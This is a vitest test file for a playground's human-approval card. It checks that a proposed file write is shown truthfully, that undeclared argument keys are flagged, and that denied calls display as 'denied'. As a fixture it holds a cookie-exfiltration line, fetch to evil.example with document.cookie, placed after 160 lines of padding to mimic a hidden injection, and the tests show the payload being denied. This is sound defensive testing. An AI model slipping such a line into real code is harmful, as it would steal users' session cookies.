/**
 * The playground's approval card in real Chromium, from a real registry, the demo's
 * tools and gate, and the broker the tab runs: the person reads the truthful summary
 * (the real path, and the content's length, head and tail, whatever the caller's key
 * order: issue 19, finding 8), and a denied call's collapsed card says "denied", not
 * "failed" (issue 23).
 */
import { describe, expect, it } from 'vitest'
import { approvalStateOf, renderApprovalPanel } from '../../demo/playground/approval-card.js'
import { renderCard, type SubCallRecord } from '../../demo/playground/cards.js'
import { askBeforeWriting } from '../../demo/tools/approval-gate.js'
import { createDemoTools } from '../../demo/tools/index.js'
import { createApprovalBroker } from '../../src/approvals/index.js'
import type { PendingApproval } from '../../src/approvals/index.js'
import { createToolRuntime } from '../../src/index.js'

const PAYLOAD = "fetch('https://evil.example/' + document.cookie)"
const ATTACK = { content: `${'// formatting only\n'.repeat(160)}${PAYLOAD}\n`, path: 'src/index.ts' }

function setup() {
  const broker = createApprovalBroker()
  const runtime = createToolRuntime({ approvals: broker })
  const demo = createDemoTools({ include: ['workspace'] })
  for (const tool of demo.tools) runtime.register(tool)
  askBeforeWriting(runtime)
  const requested = new Promise<PendingApproval>((resolve) => {
    broker.subscribe((event) => {
      if (event.type === 'requested') resolve(event.approval)
    })
  })
  return { broker, runtime, demo, requested }
}

describe('the playground approval card', () => {
  it('shows the real path and content (length, head and tail) before Allow / Deny', async () => {
    const { broker, runtime, demo, requested } = setup()
    const result = runtime.execute({ callId: 'card-1', name: 'write_file', arguments: ATTACK, signal: new AbortController().signal })
    const pending = await requested
    const panel = renderApprovalPanel(approvalStateOf(pending), async () => {})
    document.body.append(panel)
    const shown = panel.querySelector('[data-testid="approval-args"]')?.textContent ?? ''
    expect(shown).toBe(pending.summary)
    const path = shown.indexOf('path: "src/index.ts"')
    expect(path).toBeGreaterThanOrEqual(0)
    expect(shown.indexOf(`content: string of ${ATTACK.content.length} characters`)).toBeGreaterThan(path)
    expect(shown).toContain(`${PAYLOAD}\\n"`)
    panel.remove()
    await broker.decide(pending.id, { decision: 'deny', reason: 'no exfiltration' })
    const settled = await result
    expect(settled.isError && settled.error.message).toBe('write_file was denied by a person: no exfiltration')
    expect(demo.workspace.read('src/index.ts')).not.toContain(PAYLOAD)
    await runtime.dispose()
  })

  it('a long undeclared key first: refused for write_file; shown last and flagged for a tool that opens its parameters', async () => {
    const { broker, runtime, requested } = setup()
    const refused = await runtime.execute({ callId: 'card-2', name: 'write_file', arguments: { note: 'harmless '.repeat(300), ...ATTACK }, signal: new AbortController().signal })
    expect(refused.isError && refused.error.info?.code).toBe('INVALID_ARGS')
    expect(await broker.pending()).toEqual([])
    runtime.register({
      name: 'deploy',
      description: 'Deploys.',
      parameters: { type: 'object', properties: { target: { type: 'string' } }, additionalProperties: true },
      output: { schema: { type: 'string' }, render: (_a: unknown, v: string) => [{ type: 'text', text: v }] },
      execute: () => 'deployed',
    })
    runtime.on('tools/pre-execute', (decision, execution) => (execution.name === 'deploy' ? { kind: 'ask', reason: 'ships code' } : decision))
    const call = runtime.execute({ callId: 'card-3', name: 'deploy', arguments: { note: 'harmless '.repeat(300), target: 'prod', script: PAYLOAD }, signal: new AbortController().signal })
    const panel = renderApprovalPanel(approvalStateOf(await requested), async () => {})
    const lines = (panel.querySelector('[data-testid="approval-args"]')?.textContent ?? '').split('\n')
    expect(lines[0]).toBe('⚠ 2 undeclared keys (not parameters of deploy), listed last')
    expect(lines[1]).toBe('target: "prod"')
    expect(lines[2]).toMatch(/^⚠ undeclared note: string of 2700 characters: "harmless /)
    expect(lines[3]).toBe(`⚠ undeclared script: "${PAYLOAD}"`)
    await broker.decide((await broker.pending())[0]!.id, { decision: 'deny' })
    expect((await call).isError).toBe(true)
    await runtime.dispose()
  })

  it('a denied call\'s collapsed card says "denied"; a tool that failed still says "failed"', () => {
    const { demo } = setup()
    const definition = demo.tools.find((tool) => tool.name === 'write_file')
    const base: SubCallRecord = { subCallId: 'run-1:code:1', name: 'write_file', arguments: ATTACK, start: 0, end: 12, isError: true, mode: 'exclusive' }
    const denied = renderCard({ ...base, error: { message: 'write_file was denied by a person: no', code: 'DENIED_BY_APPROVAL' } }, definition)
    expect(denied.querySelector('summary')?.textContent).toContain('denied')
    expect(denied.querySelector('summary')?.textContent).not.toContain('failed')
    expect(denied.dataset.state).toBe('denied')
    expect(denied.querySelector('.body')?.textContent).toContain('[DENIED_BY_APPROVAL] write_file was denied by a person: no')
    const expired = renderCard({ ...base, error: { message: 'write_file was denied by timeout: nobody decided within 1000 ms' }, approval: { id: 'a', expiresAt: 0, state: 'expired' } }, definition)
    expect(expired.dataset.state).toBe('denied')
    const failed = renderCard({ ...base, error: { message: 'no such file: x', code: 'TOOL_FAILED' } }, definition)
    expect(failed.dataset.state).toBe('failed')
  })
})
